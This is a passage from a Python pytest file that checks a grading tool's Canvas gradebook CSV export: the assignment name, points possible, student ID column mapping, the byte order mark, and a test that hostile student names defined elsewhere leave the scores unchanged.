    assert "Section" in head[4]
    names = [name for name in head[5:] if not any(words in name for words in NOT_FOR_CANVAS)]
    assert len(names) == 1
    possible, points = None, {}
    for line in lines:
        assert len(line) == len(head)
        if "Points Possible" in line[0]:
            assert possible is None  # nobody else may say it
            possible = line[5]
            continue
        assert any(line[1:4])
        assert re.fullmatch(r"[0-9]*", line[1])
        points[tuple(line[1:4])] = line[5]
    return names[0], possible, points


def test_canvas_reads_everyone_who_has_an_id(out):
    assignment, possible, points = canvas_import((out / "canvas.csv").read_text("utf-8"))
    assert (assignment, possible) == ("Chat (1234)", "100.00")
    named = {ids[1]: got for ids, got in points.items() if ids[1].startswith("100")}
    assert named == {"1001": "100.00", "1002": "16.67", "1003": "50.00", "1004": "0.00", "1007": "53.33"}


def test_canvas_has_no_byte_order_mark(out):
    assert (out / "canvas.csv").read_bytes().startswith(b"Student,ID,SIS User ID,SIS Login ID,Section,")


@pytest.mark.parametrize("text", HOSTILE)
def test_no_hostile_text_says_anything_to_canvas(tmp_path, text):
    rows = [row("one", "pppp", "ppp", name=text, number="17"), hostile(1, text)]
    canvas.write(rows, COURSE, LESSONS, tmp_path / "canvas.csv")
    _assignment, possible, points = canvas_import((tmp_path / "canvas.csv").read_text("utf-8"))
    assert possible == "100.00"
    assert points[("", "17", "")] == "100.00"


def test_canvas_ids_come_from_the_columns_of_the_roster(tmp_path):
    known = {"Canvas ID": "77", "sis login id": "one@example.org"}
    rows = [
        row("one", "pppp", number="S-17", ids=known),
        row("two", "pppp", number="12.5"),  # which Canvas would read as another number
        row("three", "pppp", ids={"Canvas ID": "12abc"}),  # which it would read as 12
        row("four", "pppp", ids={"Canvas ID": "77"}),
    ]
    left = canvas.write(rows, COURSE, LESSONS, tmp_path / "canvas.csv")
    assert [one.student.key for one, _why in left] == ["one", "two", "three", "four"]
    canvas.write(rows[:3], COURSE, LESSONS, tmp_path / "canvas.csv")
    _assignment, _possible, points = canvas_import((tmp_path / "canvas.csv").read_text("utf-8"))
    assert points == {("77", "S-17", "one@example.org"): "33.33"}


def test_the_course_says_which_of_canvas_columns_the_number_is(tmp_path):
    course = Course(canvas=Canvas("Chat", "ID"))
    canvas.write([row("one", "pppp", number="17")], course, LESSONS, tmp_path / "canvas.csv")
    _assignment, _possible, points = canvas_import((tmp_path / "canvas.csv").read_text("utf-8"))
    assert points == {("17", "", ""): "50.00"}


if __name__ == "__main__":
    GOLDEN.mkdir(parents=True, exist_ok=True)
    written(GOLDEN, the_class(FEW))
